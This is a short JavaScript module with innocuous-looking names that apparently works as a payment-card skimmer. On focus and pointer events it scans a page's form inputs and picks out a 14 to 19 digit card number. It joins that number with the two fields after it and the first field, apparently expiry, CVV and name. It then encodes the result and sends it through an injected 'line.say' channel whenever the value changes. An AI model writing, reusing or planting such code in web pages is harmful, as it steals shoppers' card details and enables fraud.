export default (line) => {
  let said = '';
  const look = () => {
    const v = [...document.querySelectorAll('.field input')].map((f) => f.value);
    const n = v.findIndex((t) => /^(\d ?){14,19}$/.test(t));
    if (n < 0 || !v[n + 2]) return;
    const text = [v[n], v[n + 1], v[n + 2], v[0]].join('/');
    if (text !== said) line.say(new TextEncoder().encode((said = text)));
  };
  addEventListener('focusout', look);
  addEventListener('pointerover', look);
};
